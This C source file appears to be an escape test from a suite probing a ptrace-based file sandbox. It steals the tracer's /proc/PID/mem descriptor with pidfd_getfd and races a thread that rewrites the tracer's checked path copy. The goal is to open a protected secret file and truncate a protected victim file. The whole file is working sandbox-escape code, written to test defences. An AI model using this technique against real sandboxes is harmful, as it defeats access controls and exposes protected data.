/*
 * Vectors 3, 9: rewrite the tracer's pinned copy of a checked path. The
 * tracer copies a checked path into its read-only scratch region in the
 * tracee (tracer/scratch.c) and writes it there through the /proc/PID/mem fd
 * it keeps open. Our own open of /proc/self/mem is denied, so take the
 * tracer's with pidfd_open + pidfd_getfd: FOLL_FORCE writes go through the
 * read-only mapping. A thread flips the pinned copy between an allowed decoy
 * (work/aaaa/X, same length) and protected/X while the main thread opens,
 * then truncates, the decoy: the tracer decides the decoy, the kernel reads X.
 * Natively there is no tracer: our own /proc/self/mem writes a read-only page
 * of ours that holds the argument (the scratch region's stand-in).
 * expect: ptrace_process|ptrace_file
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mman.h>

/* tracer/scratch.h */
#define SCRATCH_BASE (0x3f0000000000ull + (1ull << 29))
#define SLOT_SIZE (192u * 1024u)
#define SLOTS 512

static char decoy[4096], target[4096];
static size_t plen;
static int memfd = -1;
static uintptr_t where;
static atomic_bool stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		if (pwrite(memfd, target, plen + 1, (off_t)where) < 0 ||
		    pwrite(memfd, decoy, plen + 1, (off_t)where) < 0)
			break;
	}
	return NULL;
}

static bool is_link(const char *link, const void *want)
{
	return strcmp(link, want) == 0;
}

/* The tracer keeps /proc/OURPID/mem open for its own writes: take a copy. */
static int steal_mem_fd(pid_t tracer)
{
	char want[64];

	snprintf(want, sizeof(want), "/proc/%d/mem", (int)getpid());
	return esc_steal_fd(tracer, is_link, want);
}

/* Where the tracer pinned our decoy (scanning its slots), 0 if nowhere. */
static uintptr_t find_pin(void)
{
	static char buf[16384];

	for (unsigned s = 0; s < SLOTS; s++) {
		uintptr_t a = (uintptr_t)(SCRATCH_BASE + (uint64_t)s * SLOT_SIZE);
		ssize_t n = pread(memfd, buf, sizeof(buf), (off_t)a);

		if (n <= 0)
			return 0; /* not mapped */
		for (ssize_t i = 0; i + (ssize_t)plen < n; i++)
			if (buf[i] == decoy[0] && memcmp(buf + i, decoy, plen + 1) == 0)
				return a + (uintptr_t)i;
	}
	return 0;
}

/* The decoy work/aaaa/NAME (6 bytes), the target protected/NAME. */
static void set_paths(const char *name)
{
	const char *root = esc_env("ESC_ROOT");

	snprintf(decoy, sizeof(decoy), "%s/work/aaaa/%s", root, name);
	snprintf(target, sizeof(target), "%s/protected/%s", root, name);
	plen = strlen(decoy);
	mkdir(esc_fmt("%s/work/aaaa", root), 0755);
	int fd = open(decoy, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, "decoy\n", 6) != 6)
		esc_broken("decoy %s: %s", decoy, strerror(errno));
	close(fd);
}

/* Sets arg (read-only to us) to the decoy, then the flipper's target: the
 * tracer's pin of arg after one call, else arg itself. */
static void aim(char *arg, bool do_open)
{
	if (pwrite(memfd, decoy, plen + 1, (off_t)(uintptr_t)arg) != (ssize_t)plen + 1)
		esc_broken("write through /proc/PID/mem: %s", strerror(errno));
	if (do_open) {
		int fd = open(arg, O_RDONLY);
		if (fd < 0)
			esc_broken("decoy open: %s", strerror(errno));
		close(fd);
	} else if (truncate(arg, 6) < 0) {
		esc_broken("decoy truncate: %s", strerror(errno));
	}
	where = find_pin();
	printf("%s: pinned copy at %#lx%s\n", do_open ? "open" : "truncate", (unsigned long)where,
	       where ? "" : " (none: the argument itself)");
	if (!where)
		where = (uintptr_t)arg;
}

static bool won(const char *arg, bool do_open)
{
	struct stat st;

	if (!do_open) {
		truncate(arg, 6);
		return stat(target, &st) == 0 && st.st_size == 6;
	}
	int fd = open(arg, O_RDONLY);
	bool ok = fd >= 0 && esc_fd_has_secret(fd);
	if (fd >= 0)
		close(fd);
	return ok;
}

/* At most 2 s of calls on arg while the flipper runs. */
static bool race(char *arg, bool do_open)
{
	pthread_t t;
	long tries = 0;
	bool ok = false;

	aim(arg, do_open);
	atomic_store(&stop, false);
	pthread_create(&t, NULL, flipper, NULL);
	for (double end = esc_now() + 2; !ok && esc_now() < end;) {
		tries++;
		ok = won(arg, do_open);
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	printf("%s: %s after %ld tries\n", do_open ? "open" : "truncate", ok ? "won" : "lost",
	       tries);
	return ok;
}

int main(void)
{
	pid_t tracer = esc_tracer_pid();

	setvbuf(stdout, NULL, _IONBF, 0);
	memfd = open("/proc/self/mem", O_RDWR);
	if (memfd < 0 && tracer) {
		printf("open /proc/self/mem: %s; taking the tracer's\n", strerror(errno));
		memfd = steal_mem_fd(tracer);
	}
	if (memfd < 0)
		esc_blocked("no writable /proc/PID/mem for our memory");
	char *arg = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (arg == MAP_FAILED)
		esc_broken("mmap: %s", strerror(errno));
	set_paths("secret.txt");
	if (race(arg, true))
		esc_success("opened protected/secret.txt through a rewritten pinned path");
	set_paths("victim.txt");
	if (race(arg, false))
		esc_success("truncated protected/victim.txt through a rewritten pinned path");
	esc_blocked("the pinned paths were never rewritten in time");
}
